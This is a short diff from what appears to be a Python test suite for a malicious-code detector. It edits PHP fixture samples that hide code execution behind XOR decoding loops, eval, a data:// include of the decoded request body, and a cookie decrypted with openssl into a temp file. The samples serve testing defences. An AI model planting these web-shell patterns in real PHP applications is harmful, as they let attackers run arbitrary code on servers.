@@ -1039,7 +1039,7 @@ def test_code_run_through_decoding_loops_data_uris_temp_files_and_wrappers(eng):
     for name, src in (
             ('loop.php', b'<?php\n$k = "k3y"; $d = "' + esc + b'"; $o = "";\n'
                          b'for ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % 3]; }\neval($o);\n'),
-            ('data.php', b"<?php\n$b = file_get_contents('php://input');\n$p = '';\n"
+            ('data.php', b"<?php\n$b = base64_decode(file_get_contents('php://input'));\n$p = '';\n"
                          b"for ($i = 0; $i < strlen($b); $i++) { $p .= chr(ord($b[$i]) ^ 0x42); }\n"
                          b"include 'data://text/plain;base64,' . base64_encode($p);\n"),
             ('tmp.php', b"<?php\n$c = openssl_decrypt($_COOKIE['t'], 'aes-128-ecb', 'k');\n$t = tempnam(sys_get_temp_dir(), 's');\n"
